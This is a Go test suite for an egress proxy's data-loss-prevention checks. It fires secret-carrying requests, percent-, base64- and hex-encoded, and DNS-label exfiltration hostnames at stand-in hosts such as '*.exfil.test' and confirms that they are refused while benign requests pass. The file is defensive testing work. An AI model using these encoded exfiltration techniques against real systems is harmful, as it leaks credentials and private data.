package egress_test

import (
	"context"
	"encoding/base64"
	"encoding/hex"
	"fmt"
	"io"
	"maps"
	"net"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"net/url"
	"slices"
	"strings"
	"sync"
	"testing"

	"github.com/stretchr/testify/require"
	"github.com/toolwarden/toolwarden/configs"
	"github.com/toolwarden/toolwarden/egress"
	"github.com/toolwarden/toolwarden/egress/egresstest"
	"github.com/toolwarden/toolwarden/guard/outfilter"
)

// The secrets the attacks carry out: gitleaks' rules find the first
// three; the GitHub token is one character short of gitleaks' length.
const (
	awsKey    = "AKIAIOSFODNN7EXAMPLE"
	awsSecret = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"
	jwt       = "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U"
	ghToken   = "ghp_ABCDEFGHIJKLMNOPQRSTUVWXYZabcdef0"
)

// scanner is the output filter's secret scanner, as mcpserver wires it.
func scanner(t testing.TB) egress.Scanner {
	f, err := outfilter.New(outfilter.DefaultOptions())
	require.NoError(t, err)
	return func(s string) ([]string, error) {
		_, rep, err := f.Argument(s)
		return slices.Sorted(maps.Keys(rep.Redactions)), err
	}
}

// recorder is a plain-http server that records what reaches it.
type recorder struct {
	mu   sync.Mutex
	got  []string // method, target, headers and body of each request
	port string
}

func newRecorder(t *testing.T) *recorder {
	rec := &recorder{}
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		b, _ := io.ReadAll(r.Body)
		rec.mu.Lock()
		rec.got = append(rec.got, fmt.Sprint(r.Method, " ", r.RequestURI, " ", r.Header, " ", string(b)))
		rec.mu.Unlock()
		fmt.Fprint(w, "ok")
	}))
	t.Cleanup(srv.Close)
	rec.port = portOf(srv.Listener.Addr().String())
	return rec
}

func (r *recorder) all() string {
	r.mu.Lock()
	defer r.mu.Unlock()
	return strings.Join(r.got, "\n")
}

type dlpCase struct {
	name    string
	path    string
	header  [2]string
	body    string
	finding string // "" for a request that passes
}

// dlpCases are attacks on every part of a request the proxy reads, in
// every encoding it decodes, and the benign look-alikes that must pass.
var dlpCases = []dlpCase{
	{name: "key in the query", path: "/api?key=" + awsKey, finding: "aws-access-token"},
	{name: "key percent-encoded", path: "/t?s=" + pct(awsKey), finding: "aws-access-token"},
	{name: "key percent-encoded twice", path: "/t?s=" + strings.ReplaceAll(pct(awsKey), "%", "%25"), finding: "aws-access-token"},
	{name: "percent-encoded four times", path: "/t?k=%25252541%25252549", finding: "nested-encoding"},
	{name: "key in base64", path: "/sync?data=" + base64.StdEncoding.EncodeToString([]byte(awsKey)), finding: "aws-access-token in base64"},
	{name: "key in percent-encoded base64", path: "/sync?data=" + pct(base64.StdEncoding.EncodeToString([]byte(awsKey))), finding: "aws-access-token in base64"},
	{name: "key in hex", path: "/sync?p=" + hex.EncodeToString([]byte(awsKey)), finding: "aws-access-token in hex"},
	{name: "key in delimited hex", path: "/sync?p=" + delimited(hex.EncodeToString([]byte(awsKey))), finding: "aws-access-token"},
	{name: "JWT in the path", path: "/data/" + jwt + "/export", finding: "jwt"},
	{name: "short GitHub token", path: "/log?token=" + ghToken, finding: "github-token-prefix"},
	{name: "random path segment", path: "/api/x7Kp2mQ9vR4sL8nW1bY6cT3fA0jH5dE/status", finding: "url-entropy"},
	{name: "key in a header", path: "/", header: [2]string{"Authorization", "Bearer " + awsKey}, finding: "aws-access-token"},
	{name: "keyed header", path: "/", header: [2]string{"X-Amz-Secret-Key", awsSecret}, finding: "generic-api-key"},
	{name: "token in a cookie", path: "/", header: [2]string{"Cookie", "session=abc123; token=" + ghToken + "; lang=en"}, finding: "github-token-prefix"},
	{name: "key in a JSON body", path: "/store", body: `{"config": {"aws_key": "` + awsKey + `"}}`, finding: "aws-access-token"},
	{name: "secret in a hex body", path: "/fw", body: "deadbeef0011" + hex.EncodeToString([]byte(awsSecret+"\n")) + "00ff", finding: "encoded-entropy"},
	{name: "card numbers in a CSV body", path: "/import", body: "name,card\nAlice,4111111111111111\n", finding: "payment-card"},
	{name: "key far into a body", path: "/big", body: strings.Repeat("lorem ipsum dolor ", 20000) + awsKey, finding: "aws-access-token"},

	{name: "benign query", path: "/repos/golang/go/issues?state=open&page=2&per_page=30&sort=updated"},
	{name: "benign search", path: "/search?q=how+to+fix+%22permission+denied%22+error&hl=en&num=10"},
	{name: "UUID in the path", path: "/resources/550e8400-e29b-41d4-a716-446655440000/details"},
	{name: "base64 of an image", path: "/upload?format=png&data=iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk"},
	{name: "UTF-8 query", path: "/security?content=%E3%83%91%E3%82%B9%E3%83%AF%E3%83%BC%E3%83%89"},
	{name: "short bearer", path: "/", header: [2]string{"Authorization", "Bearer mF_9.B5f-4.1JqM"}},
	{name: "session cookies", path: "/", header: [2]string{"Cookie", "session_id=abc123def456; _ga=GA1.2.1234567890.1234567890"}},
	{name: "JSON body", path: "/events", body: `{"title": "Team standup", "start": "2026-03-10T09:00:00Z", "attendees": ["alice@example.com"], "reminder_minutes": 15}`},
	{name: "form body", path: "/search", body: "q=golang+http+proxy+tutorial&category=programming"},
}

func pct(s string) string {
	var b strings.Builder
	for _, c := range []byte(s) {
		fmt.Fprintf(&b, "%%%02X", c)
	}
	return b.String()
}

func delimited(h string) string {
	var parts []string
	for i := 0; i < len(h); i += 2 {
		parts = append(parts, h[i:i+2])
	}
	return strings.Join(parts, "-")
}

func (c dlpCase) request(base string) *http.Request {
	method, body := "GET", io.Reader(nil)
	if c.body != "" {
		method, body = "POST", strings.NewReader(c.body)
	}
	req, _ := http.NewRequest(method, base+c.path, body)
	if c.header[0] != "" {
		req.Header.Set(c.header[0], c.header[1])
	}
	return req
}

// secretOf is what a case carries out, for the checks that it never
// reached the server nor shows in a refusal or event.
func secretOf(c dlpCase) string {
	for _, s := range []string{awsKey, awsSecret, jwt, ghToken, "4111111111111111", "x7Kp2mQ9vR4sL8nW1bY6cT3fA0jH5dE"} {
		if strings.Contains(c.path+c.header[1]+c.body, s) || strings.Contains(c.path, pct(s)) {
			return s
		}
	}
	return ""
}

// TestDLPPlainHTTP: over plain http the proxy reads the whole request;
// each attack is answered 403 naming egress.dlp and the rule that found
// it, and its event says so; no attack's secret reaches the server, and
// every benign request does.
func TestDLPPlainHTTP(t *testing.T) {
	rec := newRecorder(t)
	r := newRig(t, rigOpts{net: allow("api.test:" + rec.port), resolver: egresstest.Resolver{"api.test": {"127.0.0.1"}}, scan: scanner(t)})
	c := r.client(nil)
	for i, tt := range dlpCases {
		t.Run(tt.name, func(t *testing.T) {
			resp, err := c.Do(tt.request("http://api.test:" + rec.port))
			require.NoError(t, err)
			got := body(t, resp)
			ev := r.waitEvents(t, i+1)[i]
			if tt.finding == "" {
				require.Equal(t, http.StatusOK, resp.StatusCode, got)
				require.True(t, ev.Allowed)
				require.Empty(t, ev.Finding)
				return
			}
			require.Equal(t, http.StatusForbidden, resp.StatusCode, got)
			require.Equal(t, egress.RuleDLP, resp.Header.Get("X-Toolwarden-Rule"))
			require.Equal(t, tt.finding, resp.Header.Get("X-Toolwarden-Finding"))
			require.Contains(t, got, "("+tt.finding+")")
			require.False(t, ev.Allowed)
			require.Equal(t, egress.RuleDLP, ev.Rule)
			require.Equal(t, tt.finding, ev.Finding)
			if s := secretOf(tt); s != "" {
				require.NotContains(t, got, s, "a refusal never repeats the secret")
				require.False(t, strings.Contains(rec.all(), s), "the secret reached the server")
			}
		})
	}
}

// TestDLPBrokered: a brokered host's requests are read after TLS is
// terminated and checked before the credential is put in: the
// placeholder passes, the attacks are refused over TLS, the real value
// still reaches the server with a clean request.
func TestDLPBrokered(t *testing.T) {
	ca := egresstest.NewCA(t)
	var mu sync.Mutex
	var seen []string
	srv := ca.Server(t, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		b, _ := io.ReadAll(r.Body)
		mu.Lock()
		seen = append(seen, fmt.Sprint(r.RequestURI, r.Header, string(b)))
		mu.Unlock()
		fmt.Fprint(w, "ok")
	}), "api.test")
	port := egresstest.Port(srv)
	r := newRig(t, rigOpts{
		net: configs.Network{Allow: []string{"api.test:" + port}, UpstreamCAFile: ca.File,
			Credentials: []configs.Credential{{Host: "api.test", Header: "Authorization", ValueEnv: "GITHUB_TOKEN", Placeholder: placeholder}}},
		resolver: egresstest.Resolver{"api.test": {"127.0.0.1"}},
		env:      map[string]string{"GITHUB_TOKEN": realGitHub}, // a secret by every rule
		scan:     scanner(t),
	})
	pool := ca.Pool()
	pool.AppendCertsFromPEM(r.proxy.CAPEM())
	c := r.client(pool)
	for _, tt := range dlpCases {
		t.Run(tt.name, func(t *testing.T) {
			req := tt.request("https://api.test:" + port)
			if req.Header.Get("Authorization") == "" {
				req.Header.Set("Authorization", placeholder)
			}
			resp, err := c.Do(req)
			require.NoError(t, err)
			got := body(t, resp)
			if tt.finding == "" {
				require.Equal(t, http.StatusOK, resp.StatusCode, got)
				return
			}
			require.Equal(t, http.StatusForbidden, resp.StatusCode, got)
			require.Equal(t, egress.RuleDLP, resp.Header.Get("X-Toolwarden-Rule"))
			require.Contains(t, got, "("+tt.finding+")")
		})
	}
	mu.Lock()
	defer mu.Unlock()
	all := strings.Join(seen, "\n")
	require.Contains(t, all, realGitHub, "the real value was put in, and not taken for a leak")
	var findings []string
	for _, ev := range r.waitEvents(t, len(dlpCases)) { // one connection a request
		if ev.Rule == egress.RuleDLP {
			findings = append(findings, ev.Finding)
		}
	}
	var want []string
	for _, tt := range dlpCases {
		if tt.finding != "" {
			want = append(want, tt.finding)
		}
	}
	require.ElementsMatch(t, want, findings)
	for _, tt := range dlpCases {
		if s := secretOf(tt); s != "" && tt.finding != "" {
			require.False(t, strings.Contains(all, s), "%s: the secret reached the server", tt.name)
		}
	}
}

const realGitHub = "Bearer ghp_ZYXWVUTSRQPONMLKJIHGFEDCBAzyxwvu9876"

// lookups is a resolver that records what it is asked.
type lookups struct {
	mu    sync.Mutex
	asked []string
}

func (l *lookups) LookupNetIP(_ context.Context, _, host string) ([]netip.Addr, error) {
	l.mu.Lock()
	l.asked = append(l.asked, host)
	l.mu.Unlock()
	return []netip.Addr{netip.MustParseAddr("203.0.113.9")}, nil
}

// TestDLPHostnames: a name below a wildcard entry whose labels carry
// encoded data is refused before it is looked up (the lookup would carry
// the data to the domain's name server); names that look like names are
// looked up; an exact entry is not checked.
func TestDLPHostnames(t *testing.T) {
	res := &lookups{}
	r := newRig(t, rigOpts{net: allow("*.exfil.test:443", "*.cloudflare.test:443", "7365637265745f6170695f6b6579.exact.test:443"), resolver: res,
		dial: func(ctx context.Context, network, addr string) (net.Conn, error) {
			return nil, fmt.Errorf("no network in this test")
		}})
	tests := []struct{ host, finding string }{
		{"7365637265745f6170695f6b65795f3132333435.exfil.test", "hostname-encoded"},    // hex
		{"4a6f686e446f65.exfil.test", "hostname-encoded"},                              // hex of text ("JohnDoe")
		{"jbswy3dpehpk3pxp.exfil.test", "hostname-encoded"},                            // base32
		{"c2vjcmv0x3rva2vuxzeymzq1njc4ota.exfil.test", "hostname-encoded"},             // base64, lower-cased by DNS
		{"ghp-xxxx.yyyyzzzz.aaaabbbb.ccccdddd.exfil.test", "hostname-labels"},          // chunked
		{"a1b2c3d4.e5f6a7b8.c9d0e1f2.a3b4c5d6.e7f8a9b0.exfil.test", "hostname-labels"}, // deep
		{"cdnjs.cloudflare.test", ""},
		{"d111111abcdef8.cloudflare.test", ""}, // a CDN's distribution hash: hex, but no text
		{"pkg-containers.cloudflare.test", ""},
		{"github-production-release-asset-2e65be.cloudflare.test", ""},
		{"us-east-1.s3.cloudflare.test", ""},
		{"7365637265745f6170695f6b6579.exact.test", ""}, // listed exactly: the operator's choice
	}
	for _, tt := range tests {
		t.Run(tt.host, func(t *testing.T) {
			_, _, resp := r.raw(t, "CONNECT "+tt.host+":443 HTTP/1.1\r\nHost: x\r\n\r\n")
			got := body(t, resp)
			res.mu.Lock()
			looked := slices.Contains(res.asked, tt.host)
			res.mu.Unlock()
			if tt.finding == "" {
				require.Contains(t, got, "(egress.dial)", "allowed, then not reachable in this test")
				require.True(t, looked)
				return
			}
			require.Equal(t, http.StatusForbidden, resp.StatusCode)
			require.Contains(t, got, "("+tt.finding+")")
			require.True(t, strings.HasSuffix(got, "(egress.dlp)"), got)
			require.False(t, looked, "refused before the lookup")
		})
	}
}

// TestDLPBodyStreamed: a body is passed on as it is checked, never
// whole in memory; a secret far into it cuts it before the secret, and a
// body past dlp.max_body_bytes is refused.
func TestDLPBodyStreamed(t *testing.T) {
	rec := newRecorder(t)
	n := configs.Network{Allow: []string{"api.test:" + rec.port}, DLP: configs.NetworkDLP{MaxBodyBytes: 1 << 20}}
	r := newRig(t, rigOpts{net: n, resolver: egresstest.Resolver{"api.test": {"127.0.0.1"}}, scan: scanner(t)})
	c := r.client(nil)
	resp, err := c.Post("http://api.test:"+rec.port+"/up", "text/plain", strings.NewReader(strings.Repeat("a", 900<<10)))
	require.NoError(t, err)
	require.Equal(t, http.StatusOK, resp.StatusCode, body(t, resp))
	resp, err = c.Post("http://api.test:"+rec.port+"/up", "text/plain", strings.NewReader(strings.Repeat("a", 1<<20+1)))
	require.NoError(t, err)
	got := body(t, resp)
	require.Equal(t, http.StatusForbidden, resp.StatusCode, got)
	require.Contains(t, got, "(body-too-large)")
	require.Contains(t, got, "dlp.max_body_bytes")
}

// TestDLPOff: dlp.off lets everything the checks would refuse through.
func TestDLPOff(t *testing.T) {
	rec := newRecorder(t)
	n := configs.Network{Allow: []string{"api.test:" + rec.port, "*.exfil.test:443"}, DLP: configs.NetworkDLP{Off: true}}
	r := newRig(t, rigOpts{net: n, resolver: egresstest.Resolver{"api.test": {"127.0.0.1"}}, scan: scanner(t)})
	resp, err := r.client(nil).Get("http://api.test:" + rec.port + "/api?key=" + url.QueryEscape(awsKey))
	require.NoError(t, err)
	require.Equal(t, http.StatusOK, resp.StatusCode, body(t, resp))
	_, _, resp = r.raw(t, "CONNECT 7365637265745f6170695f6b65795f3132333435.exfil.test:443 HTTP/1.1\r\nHost: x\r\n\r\n")
	require.NotContains(t, body(t, resp), "egress.dlp")
}

// TestDLPAcrossWindows: a secret placed across the boundary of the body's
// 64 KiB scan windows, at each offset around it, is found, and the
// server never receives it whole.
func TestDLPAcrossWindows(t *testing.T) {
	rec := newRecorder(t)
	r := newRig(t, rigOpts{net: allow("api.test:" + rec.port), resolver: egresstest.Resolver{"api.test": {"127.0.0.1"}}, scan: scanner(t)})
	c := r.client(nil)
	for _, at := range []int{64<<10 - 30, 64<<10 - 10, 64<<10 - 1, 64 << 10, 128<<10 - 4<<10 - 5} {
		payload := strings.Repeat("lorem ipsum ", at/12+1)[:at] + " " + awsKey + " tail"
		resp, err := c.Post("http://api.test:"+rec.port+"/up", "text/plain", strings.NewReader(payload))
		require.NoError(t, err)
		got := body(t, resp)
		require.Equal(t, http.StatusForbidden, resp.StatusCode, "secret at %d: %s", at, got)
		require.Contains(t, got, "(aws-access-token)")
	}
	require.False(t, strings.Contains(rec.all(), awsKey), "a secret reached the server")
}

// TestDLPHostnamePlainHTTP: the name check holds for a plain http
// request too, and its refusal keeps the finding.
func TestDLPHostnamePlainHTTP(t *testing.T) {
	res := &lookups{}
	r := newRig(t, rigOpts{net: allow("*.exfil.test:80"), resolver: res})
	_, _, resp := r.raw(t, "GET http://7365637265745f6170695f6b65795f3132333435.exfil.test/ HTTP/1.1\r\nHost: 7365637265745f6170695f6b65795f3132333435.exfil.test\r\n\r\n")
	require.Equal(t, http.StatusForbidden, resp.StatusCode)
	require.Equal(t, "hostname-encoded", resp.Header.Get("X-Toolwarden-Finding"))
	require.Equal(t, egress.RuleDLP, resp.Header.Get("X-Toolwarden-Rule"))
	ev := r.waitEvents(t, 1)[0]
	require.Equal(t, "hostname-encoded", ev.Finding)
	require.Empty(t, res.asked, "refused before the lookup")
}
